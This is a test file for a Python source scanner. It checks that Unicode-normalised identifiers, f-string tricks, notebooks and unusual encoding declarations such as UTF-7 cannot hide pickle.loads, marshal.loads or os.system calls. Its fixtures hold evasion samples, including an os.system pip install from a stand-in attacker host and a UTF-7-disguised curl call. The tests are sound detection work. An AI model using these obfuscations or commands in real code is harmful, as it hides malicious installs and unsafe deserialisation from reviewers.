import { FACT_PYTHON_IMPORTS, type PythonImportFacts } from './facts';
import { Scanner } from '../engine/Scanner';
import { notebookReader } from '../formats/notebooks/reader';
import { SOURCE_RULES } from '../rules/source';
import {
  analyzeSourceProject,
  fullwidth,
  summarise,
} from './testing/sourceProject';

const importsOf = (facts: Map<string, unknown>) =>
  (facts.get(FACT_PYTHON_IMPORTS) as PythonImportFacts).imports.map(
    site => site.module,
  );
const rulesOf = (signals: Array<{ ruleId: string }>) =>
  signals.map(signal => signal.ruleId);

/** Source CPython runs like the ASCII names it looks like (each sample was run with python3). */
describe('PythonSourceAnalyzer: identifiers CPython normalises (PEP 3131)', () => {
  it('reports pickle.loads written in fullwidth letters, and says the names were normalised', async () => {
    const { signals, facts } = await analyzeSourceProject({
      'serve.py': `import ${fullwidth(
        'pickle',
      )}\n\ndef restore(blob):\n    return ${fullwidth('pickle')}.${fullwidth(
        'loads',
      )}(blob)\n`,
    });
    expect(summarise(signals, 'SOURCE-PICKLE-LOAD')).toEqual([
      ['pickle.loads', 'high'],
    ]);
    expect(signals[0]).toMatchObject({
      location: { path: 'serve.py', line: 4 },
      evidence: {
        snippet: 'return pickle.loads(blob)',
        identifiersNormalised: true,
      },
    });
    expect(importsOf(facts)).toEqual(['pickle']);
  });

  it('lets the prefilter see the normalised name (no ASCII loader word in the file)', async () => {
    const { signals } = await analyzeSourceProject({
      'cache.py': `import ${fullwidth('dill')} as d\nd.loads(b)\n`,
    });
    expect(summarise(signals, 'SOURCE-PICKLE-LOAD')).toEqual([
      ['dill.loads', 'high'],
    ]);
  });

  it('resolves `from ｏｓ import ｓｙｓｔｅｍ` and mathematical-bold names', async () => {
    const { signals, facts } = await analyzeSourceProject({
      'boot.py': `from ${fullwidth('os')} import ${fullwidth(
        'system',
      )}\n${fullwidth(
        'system',
      )}('pip install --index-url https://pkgs.attacker.example/simple helper')\n`,
      'load.py': 'import 𝐦𝐚𝐫𝐬𝐡𝐚𝐥\n𝐦𝐚𝐫𝐬𝐡𝐚𝐥.loads(code)\n',
    });
    expect(summarise(signals, 'SOURCE-RUNTIME-INSTALL')).toEqual([
      ['os.system', 'high'],
    ]);
    expect(summarise(signals, 'SOURCE-PICKLE-LOAD')).toEqual([
      ['marshal.loads', 'high'],
    ]);
    expect(importsOf(facts).sort()).toEqual(['marshal', 'os']);
  });

  it('finds fullwidth names after an f-string that nests quotes (PEP 701) or holds fullwidth quotes', async () => {
    const { signals } = await analyzeSourceProject({
      'nested.py': `import pickle\nd = {}\ns = f"{d["k"]}{${fullwidth(
        'pickle',
      )}.loads(x)}"\n`,
      'quotes.py': `import pickle\ns = f"＂＃"; ${fullwidth(
        'pickle',
      )}.loads(x)\n`,
    });
    expect(
      signals.map(signal => [signal.location.path, signal.evidence.symbol]),
    ).toEqual([
      ['nested.py', 'pickle.loads'],
      ['quotes.py', 'pickle.loads'],
    ]);
  });

  it('finds fullwidth names in notebook cells too', async () => {
    const notebook = JSON.stringify({
      cells: [
        {
          cell_type: 'code',
          metadata: {},
          outputs: [],
          source: `import ${fullwidth('pickle')}\n${fullwidth(
            'pickle',
          )}.load(open('m.pkl', 'rb'))\n`,
        },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    });
    const result = await new Scanner({ readers: [notebookReader] }).scanBytes(
      Buffer.from(notebook),
      'explore.ipynb',
    );
    expect(
      result.findings
        .filter(finding => finding.ruleId === 'SOURCE-PICKLE-LOAD')
        .map(finding => finding.evidence.symbol),
    ).toEqual(['pickle.load']);
  });

  it('keeps German and Japanese text in comments and strings clean', async () => {
    const { signals } = await analyzeSourceProject({
      'de.py':
        '# Größe der Übersetzung prüfen\nimport json\n\ndef grüße(name):\n    """Gibt eine Begrüßung zurück."""\n    return json.dumps({"text": f"Grüß Gott, {name}"})\n',
      'ja.py':
        '# -*- coding: utf-8 -*-\n# 日本語のコメント\nimport pickle\nメッセージ = "こんにちは、世界"\nprint(メッセージ)\n',
      // A getattr with a constant name is attribute access, not a call of the loader.
      'attr.py': `import pickle\nf = getattr(pickle, '${fullwidth(
        'loads',
      )}')\n`,
    });
    expect(signals).toEqual([]);
  });
});

describe('PythonSourceAnalyzer: encoding declarations (PEP 263)', () => {
  it('reports a UTF-7 file instead of analysing its undecoded text, before the prefilter', async () => {
    // CPython runs this as `import os` / `os.system(...)`; read as UTF-8 it has no risky word at all.
    const { signals } = await analyzeSourceProject({
      'setup_hook.py':
        '# -*- coding: utf-7 -*-\n+AGk-mport os\nos.system(+ACI-curl x+ACI-)\n',
    });
    expect(signals).toEqual([
      expect.objectContaining({
        ruleId: 'SOURCE-UNDECODED-ENCODING',
        location: { path: 'setup_hook.py', line: 1 },
        evidence: {
          encoding: 'utf-7',
          snippet: '# -*- coding: utf-7 -*-',
        },
      }),
    ]);
  });

  it('reports other codecs it does not decode, on line 2 after a shebang, behind a BOM, and in installed packages', async () => {
    const { signals } = await analyzeSourceProject({
      'a.py': '#!/usr/bin/env python3\n# vim: set fileencoding=utf-16 :\n',
      'b.py': '\uFEFF# coding: cp037\nimport pickle\npickle.loads(x)\n',
      'c.py': '# coding=shift_jis\nprint(1)\n',
      '.venv/lib/python3.12/site-packages/helper/__init__.py':
        '# coding: utf-7\n+AGk-mport pickle\n',
    });
    expect(
      signals.map(signal => [
        signal.location.path,
        signal.location.line,
        signal.evidence.encoding,
      ]),
    ).toEqual([
      ['a.py', 2, 'utf-16'],
      ['b.py', 1, 'cp037'],
      ['c.py', 1, 'shift_jis'],
      ['.venv/lib/python3.12/site-packages/helper/__init__.py', 1, 'utf-7'],
    ]);
    expect(new Set(rulesOf(signals))).toEqual(
      new Set(['SOURCE-UNDECODED-ENCODING']),
    );
  });

  it('analyses a file whose declaration CPython ignores (after a line of code) as UTF-8', async () => {
    const { signals } = await analyzeSourceProject({
      'late.py': 'import pickle\n# coding: utf-7\npickle.loads(x)\n',
    });
    expect(rulesOf(signals)).toEqual(['SOURCE-PICKLE-LOAD']);
  });

  it('decodes a latin-1 file from its bytes: `ª` is `a` once decoded and normalised', async () => {
    const { signals, facts } = await analyzeSourceProject({
      'legacy.py': Buffer.from(
        '# -*- coding: latin-1 -*-\nimport pickle as \xaa\nfrom \xbas import system\n\xaa.loads(blob)\n',
        'latin1',
      ),
    });
    expect(summarise(signals, 'SOURCE-PICKLE-LOAD')).toEqual([
      ['pickle.loads', 'high'],
    ]);
    expect(importsOf(facts)).toEqual(['pickle', 'os']);
  });

  it('keeps ordinary utf-8 and latin-1 files clean, with a BOM too', async () => {
    const { signals } = await analyzeSourceProject({
      'utf8.py': '\uFEFF# coding: utf-8\nimport yaml\nyaml.safe_load(s)\n',
      'latin.py': Buffer.from(
        '# coding: latin-1\n# Caf\xe9 cr\xe8me\nimport json\nNAME = "M\xfcller"\njson.loads(NAME)\n',
        'latin1',
      ),
    });
    expect(signals).toEqual([]);
  });

  it('reports the rule as high, with a CWE and a retest command', () => {
    expect(
      SOURCE_RULES.find(rule => rule.id === 'SOURCE-UNDECODED-ENCODING'),
    ).toMatchObject({
      severity: 'high',
      cwe: expect.arrayContaining(['CWE-173']),
      retest: 'mlgov scan {path}',
    });
  });
});
